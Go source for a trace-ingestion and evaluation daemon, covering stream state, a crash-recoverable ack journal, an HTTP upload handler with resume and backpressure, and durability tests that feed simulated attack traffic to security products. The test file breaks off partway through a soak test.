	ConnTimeout time.Duration
	// ShedWindow is the trailing window in which any shed marks
	// /healthz degraded (default 10s).
	ShedWindow time.Duration
	// Obs, when set, receives the serve.* instrumentation and the
	// campaign runner's counters.
	Obs *obs.Registry
	// Log, when set, receives operational lines (never protocol data).
	Log io.Writer
	// FS is the storage seam every durability-bearing write goes
	// through: spool appends, the ack journal, finish.json, tombstones,
	// and the campaign files beneath. nil means the real filesystem;
	// cmd/crashtorture substitutes a fault-injecting one.
	FS fsio.FS
}

func (c *Config) applyDefaults() {
	if c.MaxStreams <= 0 {
		c.MaxStreams = 32
	}
	if c.QueueDepth <= 0 {
		c.QueueDepth = 8
	}
	if c.EvalWorkers < 0 {
		c.EvalWorkers = 0
	} else if c.EvalWorkers == 0 {
		c.EvalWorkers = 2
	}
	if c.MaxSpoolBytes <= 0 {
		c.MaxSpoolBytes = 256 << 20
	}
	if c.MaxFrameBytes <= 0 {
		c.MaxFrameBytes = 4 << 20
	}
	if c.IdleExpiry <= 0 {
		c.IdleExpiry = 10 * time.Minute
	}
	if c.StallTimeout == 0 {
		c.StallTimeout = 2 * time.Minute
	}
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 2
	}
	if c.Backoff <= 0 {
		c.Backoff = 100 * time.Millisecond
	}
	if c.RetryAfter <= 0 {
		c.RetryAfter = 2 * time.Second
	}
	if c.ConnTimeout <= 0 {
		c.ConnTimeout = 30 * time.Second
	}
	if c.ShedWindow <= 0 {
		c.ShedWindow = 10 * time.Second
	}
}

func (c *Config) logf(format string, args ...any) {
	if c.Log != nil {
		fmt.Fprintf(c.Log, format+"\n", args...)
	}
}

// RejectError is a synchronous backpressure refusal: the work was not
// accepted, nothing is pending, and the client should retry after the
// hint. On the wire it becomes a Reject frame (TCP) or a 429 with a
// Retry-After header (HTTP).
type RejectError struct {
	Reason     string
	RetryAfter time.Duration
}

func (e *RejectError) Error() string {
	return fmt.Sprintf("serve: rejected: %s (retry after %v)", e.Reason, e.RetryAfter)
}

// ProtocolError is a client-side protocol violation: wrong ordinal,
// unknown stream, malformed metadata. Next, when nonzero, tells the
// client the ordinal the server expects so it can resynchronize.
type ProtocolError struct {
	Msg  string
	Next uint32
}

func (e *ProtocolError) Error() string { return "serve: protocol: " + e.Msg }
