package serve

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/fsio"
)

// StreamMeta is the client-declared identity of a stream, sent in the
// Hello and persisted verbatim as the stream's meta.json.
type StreamMeta struct {
	// Name addresses the stream; it doubles as the directory name, so
	// the charset is restricted ([A-Za-z0-9._-], max 64).
	Name string `json:"name"`
	// Seed/Quick/Products/Evals/Sensitivity parameterize the campaign
	// spec the stream is evaluated under.
	Seed        int64    `json:"seed,omitempty"`
	Quick       bool     `json:"quick,omitempty"`
	Products    []string `json:"products,omitempty"`
	Evals       bool     `json:"evals,omitempty"`
	Sensitivity float64  `json:"sensitivity,omitempty"`
}

// Stream lifecycle states as reported by Status and the Hello ack.
const (
	StateOpen      = "open"      // accepting chunks
	StateFinishing = "finishing" // upload closed, delivery in progress
	StateQueued    = "queued"    // delivered, waiting for an eval worker
	StateRunning   = "running"   // under evaluation
	StateDone      = "done"      // scorecard rendered
	StateFailed    = "failed"    // evaluation failed permanently
	StateShed      = "shed"      // dropped before delivery (reason recorded)
)

// StreamStatus is the externally visible state of one stream.
type StreamStatus struct {
	Name   string `json:"name"`
	State  string `json:"state"`
	Chunks uint64 `json:"chunks"`
	Bytes  int64  `json:"bytes"`
	// Reason carries the shed reason or the permanent failure message.
	Reason string `json:"reason,omitempty"`
}

// EventKind tags one entry of a stream's result feed.
type EventKind byte

const (
	// EventResult is one committed experiment (JSON payload), emitted
	// incrementally as the campaign journals commits.
	EventResult EventKind = iota + 1
	// EventScorecard carries the final rendered scorecard text.
	EventScorecard
	// EventComplete terminates a successful feed (empty payload).
	EventComplete
	// EventFailed terminates a failed or shed feed (message payload).
	EventFailed
)

// Event is one entry of a stream's result feed. Subscribers get the
// full history followed by live events; the feed ends at the first
// terminal event (Complete or Failed).
type Event struct {
	Kind    EventKind
	Payload []byte
}

func (e Event) terminal() bool { return e.Kind == EventComplete || e.Kind == EventFailed }

// stream is the in-memory handle for one stream directory. The mutex
// guards all mutable fields; the service takes it after its own lock
// (service.mu before stream.mu, never the reverse).
type stream struct {
	name   string
	dir    string
	meta   StreamMeta
	ledger *Ledger
	// spoolAcct points at the service's shared spool-budget balance;
	// accept adds to it in the same st.mu critical section that extends
	// st.bytes, so a shed (which subtracts st.bytes under the same lock)
	// always reverses exactly what accounting exists.
	spoolAcct *atomic.Int64

	mu         sync.Mutex
	state      string
	chunks     uint64 // accepted chunk count == next expected ordinal
	bytes      int64  // accepted payload bytes (== spool length)
	spool      *fsio.AppendFile
	acks       *fsio.AppendFile
	lastActive time.Time
	reason     string // shed reason or failure message

	events []Event
	subs   map[chan Event]struct{}
}

// Per-stream file names. The spool is always called trace.idt2 so the
// campaign experiment ID — derived from the artifact basename — is
// identical for every stream, which keeps scorecards comparable byte
// for byte across directories.
const (
	metaFile      = "meta.json"
	spoolFile     = "trace.idt2"
	ackFile       = "acks.jsonl"
	finishFile    = "finish.json"
	shedFile      = "shed.json"
	failedFile    = "failed.json"
	scorecardFile = "scorecard.txt"
	campaignDir   = "campaign"
)

func (st *stream) path(name string) string { return filepath.Join(st.dir, name) }

// validStreamName restricts names to a filesystem- and wire-safe
// charset. "." and ".." are excluded by construction (no empty names,
// and '.' alone or doubled still matches — so check explicitly).
func validStreamName(name string) error {
	if name == "" || len(name) > 64 {
		return fmt.Errorf("stream name must be 1-64 characters, got %d", len(name))
	}
	if name == "." || name == ".." {
		return fmt.Errorf("stream name %q is reserved", name)
	}
	for _, r := range name {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9',
			r == '.', r == '_', r == '-':
		default:
			return fmt.Errorf("stream name %q: character %q not in [A-Za-z0-9._-]", name, r)
		}
	}
	return nil
}

// ackEntry is one line of the ack journal: chunk ordinal and payload
// length, appended (and fsynced) only after the payload itself reached
// the spool. The journal is the accept commit point.
type ackEntry struct {
	Ord uint32 `json:"ord"`
	Len int    `json:"len"`
}

// accept ingests one data chunk. Returns (next, dup): next is the
// ordinal the server expects after this call; dup reports a
// retransmission of an already-accepted ordinal (re-acked, not
// spooled). The ledger and the spool budget are booked while st.mu is
// held, so a concurrent shed — which also takes st.mu — always sees a
// chunk either fully in pending and the budget, or not submitted at
// all, never half-classified.
func (st *stream) accept(ord uint32, payload []byte) (next uint32, dup bool, err error) {
	st.mu.Lock()
	defer st.mu.Unlock()
	if st.state != StateOpen {
		return uint32(st.chunks), false, &ProtocolError{
			Msg: fmt.Sprintf("stream %s is %s, not accepting chunks", st.name, st.state)}
	}
	st.lastActive = time.Now()
	if uint64(ord) < st.chunks {
		st.ledger.Duplicate(1)
		return uint32(st.chunks), true, nil
	}
	if uint64(ord) > st.chunks {
		return uint32(st.chunks), false, &ProtocolError{
			Msg:  fmt.Sprintf("stream %s: chunk %d out of order, expected %d", st.name, ord, st.chunks),
			Next: uint32(st.chunks),
		}
	}
	// Spool first, journal second: the ack line is the commit point, so
	// a crash between the two leaves an un-journaled spool tail that
	// recovery truncates — never a journaled chunk without its bytes.
	if err := st.spool.Append(payload); err != nil {
		return uint32(st.chunks), false, err
	}
	line, err := json.Marshal(ackEntry{Ord: ord, Len: len(payload)})
	if err != nil {
		return uint32(st.chunks), false, err
	}
	if err := st.acks.Append(append(line, '\n')); err != nil {
		return uint32(st.chunks), false, err
	}
	st.chunks++
	st.bytes += int64(len(payload))
	st.ledger.Accept(1)
	st.spoolAcct.Add(int64(len(payload)))
	return uint32(st.chunks), false, nil
}

// closeFiles closes the spool and ack journal handles (idempotent).
func (st *stream) closeFiles() {
	if st.spool != nil {
		st.spool.Close()
		st.spool = nil
	}
	if st.acks != nil {
		st.acks.Close()
		st.acks = nil
	}
}

// publish appends ev to the history and fans it out. A terminal event
// closes every subscriber channel. Callers must NOT hold st.mu.
func (st *stream) publish(ev Event) {
	st.mu.Lock()
	st.events = append(st.events, ev)
	for ch := range st.subs {
		select {
		case ch <- ev:
		default:
			// Slow consumer: drop it rather than block the evaluator.
			// The subscriber sees a closed channel and can re-subscribe
			// (history replay makes that lossless).
			close(ch)
			delete(st.subs, ch)
		}
	}
	if ev.terminal() {
		for ch := range st.subs {
			close(ch)
		}
		st.subs = nil
	}
	st.mu.Unlock()
}

// subscribe returns the event history so far plus a live channel (nil
// when the feed already ended — the history then contains the terminal
// event). cancel detaches; safe to call multiple times.
func (st *stream) subscribe() (history []Event, ch chan Event, cancel func()) {
	st.mu.Lock()
	defer st.mu.Unlock()
	history = append([]Event(nil), st.events...)
	// Synthesize the terminal event for streams recovered from disk in
	// a terminal state with no in-memory history.
	if len(history) == 0 || !history[len(history)-1].terminal() {
		switch st.state {
		case StateDone:
			if card, err := os.ReadFile(st.path(scorecardFile)); err == nil {
				history = append(history, Event{Kind: EventScorecard, Payload: card})
			}
			history = append(history, Event{Kind: EventComplete})
		case StateFailed:
			history = append(history, Event{Kind: EventFailed, Payload: []byte(st.reason)})
		case StateShed:
			history = append(history, Event{Kind: EventFailed, Payload: []byte("stream shed: " + st.reason)})
		}
	}
	if len(history) > 0 && history[len(history)-1].terminal() {
		return history, nil, func() {}
	}
	ch = make(chan Event, 256)
	if st.subs == nil {
		st.subs = map[chan Event]struct{}{}
	}
	st.subs[ch] = struct{}{}
	var once sync.Once
	cancel = func() {
		once.Do(func() {
			st.mu.Lock()
			if _, ok := st.subs[ch]; ok {
				delete(st.subs, ch)
				close(ch)
			}
			st.mu.Unlock()
		})
	}
	return history, ch, cancel
}

func (st *stream) status() StreamStatus {
	st.mu.Lock()
	defer st.mu.Unlock()
	return StreamStatus{
		Name: st.name, State: st.state, Chunks: st.chunks, Bytes: st.bytes, Reason: st.reason,
	}
}

// finishRecord is finish.json: the declared-and-verified totals,
// written atomically at delivery. Its presence marks the stream's
// chunks as delivered across restarts.
type finishRecord struct {
	Chunks uint64 `json:"chunks"`
	Bytes  int64  `json:"bytes"`
}

// shedRecord is shed.json: the tombstone for a shed stream, keeping
// the name reserved and the accounting replayable across restarts.
type shedRecord struct {
	Reason ShedReason `json:"reason"`
	Chunks uint64     `json:"chunks"`
}

// failRecord is failed.json for permanent evaluation failures.
type failRecord struct {
	Error  string `json:"error"`
	Chunks uint64 `json:"chunks"`
}

func writeJSONFile(fsys fsio.FS, path string, v any) error {
	return fsio.WriteAtomicFS(fsys, path, func(w io.Writer) error {
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		return enc.Encode(v)
	})
}

func readJSONFile(path string, v any) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return json.Unmarshal(data, v)
}

// recoverAcks replays the ack journal's valid prefix against the spool
// after a crash: entries must be sequential from 0 and covered by
// spooled bytes. Both files are truncated to the recovered prefix —
// the journal to drop a torn tail, the spool to drop bytes whose ack
// line never committed. Returns the recovered chunk count and spool
// length. Missing files mean an empty stream.
func recoverAcks(fsys fsio.FS, dir string) (chunks uint64, bytes int64, err error) {
	spoolPath := filepath.Join(dir, spoolFile)
	ackPath := filepath.Join(dir, ackFile)
	var spoolSize int64
	if fi, serr := fsys.Stat(spoolPath); serr == nil {
		spoolSize = fi.Size()
	}
	data, rerr := fsys.ReadFile(ackPath)
	if rerr != nil && !os.IsNotExist(rerr) {
		return 0, 0, fmt.Errorf("serve: reading ack journal: %w", rerr)
	}

	var validLen int // byte length of the valid journal prefix
	for off := 0; off < len(data); {
		nl := -1
		for i := off; i < len(data); i++ {
			if data[i] == '\n' {
				nl = i
				break
			}
		}
		if nl < 0 {
			break // torn final line
		}
		var e ackEntry
		if json.Unmarshal(data[off:nl], &e) != nil ||
			uint64(e.Ord) != chunks || e.Len < 0 || bytes+int64(e.Len) > spoolSize {
			break
		}
		chunks++
		bytes += int64(e.Len)
		validLen = nl + 1
		off = nl + 1
	}

	if int64(validLen) < int64(len(data)) {
		if err := fsys.Truncate(ackPath, int64(validLen)); err != nil {
			return 0, 0, fmt.Errorf("serve: truncating torn ack journal: %w", err)
		}
	}
	if bytes < spoolSize {
		if err := fsys.Truncate(spoolPath, bytes); err != nil {
			return 0, 0, fmt.Errorf("serve: truncating unjournaled spool tail: %w", err)
		}
	}
	return chunks, bytes, nil
}
