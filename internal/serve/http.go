package serve

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
)

// httpChunk is the fixed chunking the HTTP adapter applies to uploaded
// bodies. Fixed size makes HTTP resume deterministic — but the resume
// offset is the acked *byte* count, not Next×httpChunk: the last acked
// chunk of a body is usually short (io.ReadFull stops at EOF), so a
// retried POST whose whole body was already acked would otherwise
// compute a skip longer than the body and wedge on 400 forever.
const httpChunk = 1 << 20

// HTTPHandler returns the daemon's HTTP surface:
//
//	POST /v1/streams/{name}?seed=&quick=&products=&evals=&sensitivity=
//	    Upload a whole IDT2 trace as the request body. Chunked and
//	    acked server-side; on backpressure responds 429 with a
//	    Retry-After header and the durable prefix is kept, so a
//	    retried POST resumes instead of restarting. By default the
//	    response waits for the evaluation and returns the scorecard
//	    text; ?nowait=1 returns 202 with the stream status instead.
//	GET  /v1/streams                 — all stream statuses (JSON)
//	GET  /v1/streams/{name}          — one stream status (JSON)
//	GET  /v1/streams/{name}/scorecard — the rendered scorecard (text)
//
// Unmatched paths fall through to next (the observability plane:
// /healthz, /metrics, /progress, pprof). next may be nil.
func (s *Service) HTTPHandler(next http.Handler) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/streams", func(w http.ResponseWriter, r *http.Request) {
		writeJSONResp(w, http.StatusOK, s.Streams())
	})
	mux.HandleFunc("/v1/streams/", s.handleStream)
	if next != nil {
		mux.Handle("/", next)
	}
	return mux
}

func (s *Service) handleStream(w http.ResponseWriter, r *http.Request) {
	rest := strings.TrimPrefix(r.URL.Path, "/v1/streams/")
	name, sub, _ := strings.Cut(rest, "/")
	switch {
	case r.Method == http.MethodGet && sub == "scorecard":
		card, err := s.Scorecard(name)
		if err != nil {
			http.Error(w, err.Error(), http.StatusNotFound)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		w.Write(card)
	case r.Method == http.MethodGet && sub == "":
		status, ok := s.Status(name)
		if !ok {
			http.Error(w, fmt.Sprintf("unknown stream %q", name), http.StatusNotFound)
			return
		}
		writeJSONResp(w, http.StatusOK, status)
	case r.Method == http.MethodPost && sub == "":
		s.handleIngest(w, r, name)
	default:
		http.Error(w, "not found", http.StatusNotFound)
	}
}

// handleIngest streams the request body into the named stream.
func (s *Service) handleIngest(w http.ResponseWriter, r *http.Request, name string) {
	meta, err := metaFromQuery(name, r)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	info, err := s.Hello(meta)
	if err != nil {
		httpServeError(w, err)
		return
	}
	if info.State == StateOpen {
		// Skip the body prefix the server already holds, then chunk the
		// remainder. The skip is the acked byte count — the acked prefix
		// can end in a short chunk (a previous POST's body ended there),
		// so Next×httpChunk would overshoot a fully-acked body.
		ord := info.Next
		if ord > 0 {
			status, ok := s.Status(name)
			if !ok {
				http.Error(w, "stream vanished during resume", http.StatusInternalServerError)
				return
			}
			ord = uint32(status.Chunks)
			if _, err := io.CopyN(io.Discard, r.Body, status.Bytes); err != nil {
				http.Error(w, fmt.Sprintf("body shorter than acked prefix (%d chunks, %d bytes): %v",
					status.Chunks, status.Bytes, err), http.StatusBadRequest)
				return
			}
		}
		buf := make([]byte, httpChunk)
		for {
			n, rerr := io.ReadFull(r.Body, buf)
			if n > 0 {
				if _, aerr := s.Accept(name, ord, buf[:n]); aerr != nil {
					httpServeError(w, aerr)
					return
				}
				ord++
			}
			if rerr != nil {
				if errors.Is(rerr, io.EOF) || errors.Is(rerr, io.ErrUnexpectedEOF) {
					break
				}
				http.Error(w, rerr.Error(), http.StatusBadRequest)
				return
			}
		}
		st, ok := s.Status(name)
		if !ok {
			http.Error(w, "stream vanished during upload", http.StatusInternalServerError)
			return
		}
		if err := s.Finish(name, st.Chunks, st.Bytes); err != nil {
			httpServeError(w, err)
			return
		}
	}

	if r.URL.Query().Get("nowait") != "" {
		status, _ := s.Status(name)
		writeJSONResp(w, http.StatusAccepted, status)
		return
	}
	card, err := s.awaitScorecard(name)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.Write(card)
}

// awaitScorecard blocks on the stream's result feed until it
// terminates.
func (s *Service) awaitScorecard(name string) ([]byte, error) {
	history, ch, cancel, err := s.Subscribe(name)
	if err != nil {
		return nil, err
	}
	defer cancel()
	var card []byte
	consume := func(ev Event) (done bool, err error) {
		switch ev.Kind {
		case EventScorecard:
			card = append([]byte(nil), ev.Payload...)
		case EventComplete:
			if card == nil {
				return true, fmt.Errorf("stream %s completed without a scorecard", name)
			}
			return true, nil
		case EventFailed:
			return true, fmt.Errorf("stream %s: %s", name, ev.Payload)
		}
		return false, nil
	}
	for _, ev := range history {
		if done, err := consume(ev); done {
			return card, err
		}
	}
	if ch == nil {
		return nil, fmt.Errorf("stream %s feed ended without a terminal event", name)
	}
	for {
		select {
		case ev, ok := <-ch:
			if !ok {
				return nil, fmt.Errorf("stream %s feed interrupted; retry", name)
			}
			if done, err := consume(ev); done {
				return card, err
			}
		case <-s.runCtx.Done():
			return nil, fmt.Errorf("server shutting down; stream %s resumes after restart", name)
		}
	}
}

// metaFromQuery builds a StreamMeta from the POST query parameters.
func metaFromQuery(name string, r *http.Request) (StreamMeta, error) {
	q := r.URL.Query()
	meta := StreamMeta{Name: name}
	if v := q.Get("seed"); v != "" {
		seed, err := strconv.ParseInt(v, 10, 64)
		if err != nil {
			return meta, fmt.Errorf("bad seed %q: %v", v, err)
		}
		meta.Seed = seed
	}
	if v := q.Get("sensitivity"); v != "" {
		sens, err := strconv.ParseFloat(v, 64)
		if err != nil {
			return meta, fmt.Errorf("bad sensitivity %q: %v", v, err)
		}
		meta.Sensitivity = sens
	}
	meta.Quick = q.Get("quick") != ""
	meta.Evals = q.Get("evals") != ""
	if v := q.Get("products"); v != "" {
		meta.Products = strings.Split(v, ",")
	}
	return meta, nil
}

// httpServeError maps service errors onto HTTP: backpressure rejects
// become 429 with a Retry-After header (in whole seconds, rounded up),
// protocol violations 400, the rest 500.
func httpServeError(w http.ResponseWriter, err error) {
	var re *RejectError
	var pe *ProtocolError
	switch {
	case errors.As(err, &re):
		secs := int64((re.RetryAfter + 999999999) / 1000000000)
		if secs < 1 {
			secs = 1
		}
		w.Header().Set("Retry-After", strconv.FormatInt(secs, 10))
		http.Error(w, re.Reason, http.StatusTooManyRequests)
	case errors.As(err, &pe):
		http.Error(w, pe.Msg, http.StatusBadRequest)
	default:
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

func writeJSONResp(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v)
}
