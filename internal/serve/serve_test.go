package serve_test

// The service's three contracts under test: exact shed accounting
// (every chunk in exactly one ledger class, at all times, under
// concurrent overload), ack-is-durable resume (a killed daemon
// restarts exactly after the last acked chunk, tolerating torn
// journals), and byte-identical recovery (an interrupted-and-resumed
// stream renders the same scorecard as an uninterrupted one).

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/attack"
	"repro/internal/obs/httpexport"
	"repro/internal/packet"
	"repro/internal/serve"
	"repro/internal/simtime"
	"repro/internal/trace"
	"repro/internal/traffic"
)

// buildTraceBytes renders a small labeled IDT2 trace, cached per seed —
// generation costs a simulation run and several tests share it.
var traceCache sync.Map

func buildTraceBytes(t testing.TB, seed int64) []byte {
	t.Helper()
	if b, ok := traceCache.Load(seed); ok {
		return b.([]byte)
	}
	sim := simtime.New(seed)
	rec := trace.NewRecorder(sim, "ecommerce-edge")
	seq := &packet.SeqCounter{}
	eps := traffic.Endpoints{
		External: []packet.Addr{packet.IPv4(203, 0, 1, 1), packet.IPv4(203, 0, 1, 2)},
		Cluster: []packet.Addr{
			packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2), packet.IPv4(10, 1, 1, 3),
		},
	}
	gen, err := traffic.NewGenerator(sim, traffic.EcommerceEdge(), eps, seq, rec.Emit)
	if err != nil {
		t.Fatal(err)
	}
	gen.Start(40)
	ctx := &attack.Context{Sim: sim, Rng: sim.Stream("attack"), Seq: seq, Eps: eps, Emit: rec.Emit, Gen: gen}
	camp := attack.NewCampaign(ctx)
	if err := camp.SpreadAcross(2*time.Second, 10*time.Second, []attack.Scenario{
		attack.Exploit{Count: 3}, attack.BruteForce{Attempts: 20},
	}); err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(15 * time.Second)
	gen.Stop()
	sim.Run()
	rec.SetIncidents(camp.Incidents())
	var buf bytes.Buffer
	if err := rec.Trace().WriteStream(&buf); err != nil {
		t.Fatal(err)
	}
	traceCache.Store(seed, buf.Bytes())
	return buf.Bytes()
}

// quickMeta is the evaluation shape the chaos tests use: one product,
// trace replay only, quick scale.
func quickMeta(name string) serve.StreamMeta {
	return serve.StreamMeta{
		Name: name, Seed: 7, Quick: true,
		Products: []string{"TrueSecure"}, Sensitivity: 0.6,
	}
}

func openService(t testing.TB, dir string, mut func(*serve.Config)) *serve.Service {
	t.Helper()
	cfg := serve.Config{Dir: dir, Backoff: time.Millisecond, StallTimeout: -1}
	if mut != nil {
		mut(&cfg)
	}
	svc, err := serve.Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return svc
}

// chunked splits data into fixed-size pieces.
func chunked(data []byte, size int) [][]byte {
	var out [][]byte
	for len(data) > 0 {
		n := size
		if n > len(data) {
			n = len(data)
		}
		out = append(out, data[:n])
		data = data[n:]
	}
	return out
}

// uploadAll pushes every chunk from the stream's resume point and
// finishes.
func uploadAll(t *testing.T, svc *serve.Service, meta serve.StreamMeta, chunks [][]byte) {
	t.Helper()
	info, err := svc.Hello(meta)
	if err != nil {
		t.Fatal(err)
	}
	var total int64
	for _, c := range chunks {
		total += int64(len(c))
	}
	for i := int(info.Next); i < len(chunks); i++ {
		if _, err := svc.Accept(meta.Name, uint32(i), chunks[i]); err != nil {
			t.Fatalf("chunk %d: %v", i, err)
		}
	}
	if err := svc.Finish(meta.Name, uint64(len(chunks)), total); err != nil {
		t.Fatal(err)
	}
}

// awaitDone polls until the stream reaches a terminal state and
// returns its scorecard.
func awaitDone(t *testing.T, svc *serve.Service, name string) []byte {
	t.Helper()
	deadline := time.Now().Add(3 * time.Minute)
	for time.Now().Before(deadline) {
		status, ok := svc.Status(name)
		if !ok {
			t.Fatalf("stream %s vanished", name)
		}
		switch status.State {
		case serve.StateDone:
			card, err := svc.Scorecard(name)
			if err != nil {
				t.Fatal(err)
			}
			return card
		case serve.StateFailed, serve.StateShed:
			t.Fatalf("stream %s ended %s: %s", name, status.State, status.Reason)
		}
		time.Sleep(25 * time.Millisecond)
	}
	t.Fatalf("stream %s not done within deadline", name)
	return nil
}

// referenceScorecard runs the stream uninterrupted in a fresh
// directory — the byte-identity oracle for the chaos tests.
func referenceScorecard(t *testing.T, name string, chunks [][]byte) []byte {
	t.Helper()
	svc := openService(t, t.TempDir(), nil)
	defer svc.Close()
	uploadAll(t, svc, quickMeta(name), chunks)
	return awaitDone(t, svc, name)
}

func checkLedger(t *testing.T, svc *serve.Service) {
	t.Helper()
	if err := svc.Counts().Check(); err != nil {
		t.Fatal(err)
	}
}

func TestIngestEvaluateScorecardOverTCP(t *testing.T) {
	data := buildTraceBytes(t, 31)
	chunks := chunked(data, 48<<10)

	svc := openService(t, t.TempDir(), nil)
	defer svc.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go svc.ServeTCP(ln)

	c, err := serve.Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Hello(quickMeta("tcp1")); err != nil {
		t.Fatal(err)
	}
	if c.Next != 0 || c.State != serve.StateOpen {
		t.Fatalf("hello = next %d state %s, want 0/open", c.Next, c.State)
	}
	for _, chunk := range chunks {
		if err := c.SendChunkRetry(chunk, 3, 10*time.Millisecond); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.FinishRetry(uint64(len(chunks)), int64(len(data)), 3, 10*time.Millisecond); err != nil {
		t.Fatal(err)
	}
	var results int
	card, err := c.Await(3*time.Minute, func(kind serve.EventKind, _ []byte) {
		if kind == serve.EventResult {
			results++
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(card) == 0 || !bytes.Contains(card, []byte("TrueSecure")) {
		t.Fatalf("scorecard missing product section:\n%s", card)
	}
	if results == 0 {
		t.Fatal("no incremental Result frames before the scorecard")
	}

	counts := svc.Counts()
	if counts.Delivered != uint64(len(chunks)) || counts.Pending != 0 {
		t.Fatalf("ledger after completion: %+v", counts)
	}
	checkLedger(t, svc)
	if h := svc.Health(); h != httpexport.HealthOK {
		t.Fatalf("health = %q after clean completion", h)
	}
}

func TestUploadResumeAfterKillIsByteIdentical(t *testing.T) {
	data := buildTraceBytes(t, 31)
	chunks := chunked(data, 48<<10)
	want := referenceScorecard(t, "chaos", chunks)

	dir := t.TempDir()
	svc := openService(t, dir, nil)
	meta := quickMeta("chaos")
	if _, err := svc.Hello(meta); err != nil {
		t.Fatal(err)
	}
	half := len(chunks) / 2
	for i := 0; i < half; i++ {
		if _, err := svc.Accept("chaos", uint32(i), chunks[i]); err != nil {
			t.Fatal(err)
		}
	}
	// Close == crash by construction: every durable structure is
	// already consistent at all instants.
	svc.Close()

	// Make the crash nastier than Close can: a torn ack-journal line
	// and spool bytes whose ack never committed (kill between the two
	// fsyncs).
	sdir := filepath.Join(dir, "streams", "chaos")
	tear(t, filepath.Join(sdir, "acks.jsonl"), `{"ord":99,"le`)
	tear(t, filepath.Join(sdir, "trace.idt2"), "unjournaled tail bytes")

	svc2 := openService(t, dir, nil)
	defer svc2.Close()
	info, err := svc2.Hello(meta)
	if err != nil {
		t.Fatal(err)
	}
	if info.Next != uint32(half) || info.State != serve.StateOpen {
		t.Fatalf("resume hello = next %d state %s, want %d/open", info.Next, info.State, half)
	}
	counts := svc2.Counts()
	if counts.Pending != uint64(half) || counts.Submitted != uint64(half) {
		t.Fatalf("recovered ledger: %+v, want %d pending", counts, half)
	}
	checkLedger(t, svc2)

	uploadAll(t, svc2, meta, chunks)
	got := awaitDone(t, svc2, "chaos")
	if !bytes.Equal(got, want) {
		t.Fatalf("resumed scorecard differs from uninterrupted run:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}
	checkLedger(t, svc2)
}

// tear appends a raw fragment to a file, simulating a torn write.
func tear(t *testing.T, path, fragment string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(fragment); err != nil {
		t.Fatal(err)
	}
	f.Close()
}

func TestKillDuringEvaluationResumesByteIdentical(t *testing.T) {
	data := buildTraceBytes(t, 31)
	chunks := chunked(data, 48<<10)
	want := referenceScorecard(t, "chaos2", chunks)

	dir := t.TempDir()
	svc := openService(t, dir, nil)
	uploadAll(t, svc, quickMeta("chaos2"), chunks)
	// Give the evaluation a moment to start (and likely commit some
	// experiments), then kill the daemon mid-flight.
	time.Sleep(150 * time.Millisecond)
	svc.Close()

	svc2 := openService(t, dir, nil)
	defer svc2.Close()
	status, ok := svc2.Status("chaos2")
	if !ok {
		t.Fatal("stream lost across restart")
	}
	if status.State != serve.StateQueued && status.State != serve.StateRunning && status.State != serve.StateDone {
		t.Fatalf("restarted stream state = %s, want re-queued or done", status.State)
	}
	counts := svc2.Counts()
	if counts.Delivered != uint64(len(chunks)) {
		t.Fatalf("delivered %d across restart, want %d", counts.Delivered, len(chunks))
	}
	checkLedger(t, svc2)

	got := awaitDone(t, svc2, "chaos2")
	if !bytes.Equal(got, want) {
		t.Fatalf("post-kill scorecard differs from uninterrupted run:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}
}

func TestOverloadSoakKeepsExactAccounting(t *testing.T) {
	// A small spool budget and several concurrent writers force the
	// whole backpressure surface: accepts, duplicates, out-of-order
	// rejects, budget rejects, and overload sheds. The invariant must
	// hold at every instant a concurrent checker observes, and the
	// client-observed outcomes must reconcile with the ledger exactly.
	svc := openService(t, t.TempDir(), func(c *serve.Config) {
		c.MaxSpoolBytes = 192 << 10
		c.MaxStreams = 8
		c.RetryAfter = time.Millisecond
	})
	defer svc.Close()

	stop := make(chan struct{})
	var checkerErr atomic.Value
	var checks atomic.Int64
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
				if err := svc.Counts().Check(); err != nil {
					checkerErr.Store(err)
					return
				}
				checks.Add(1)
			}
		}
	}()

	const writers = 6
	const perWriter = 120
	var submitted atomic.Int64
	var wg sync.WaitGroup
	payload := bytes.Repeat([]byte{0xAB}, 8<<10)
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			name := fmt.Sprintf("soak-%d", w)
			if _, err := svc.Hello(serve.StreamMeta{Name: name, Evals: true, Quick: true}); err != nil {
				t.Errorf("hello %s: %v", name, err)
				return
			}
			next := uint32(0)
			for i := 0; i < perWriter; i++ {
				ord := next
				switch i % 7 {
				case 3:
					if ord > 0 {
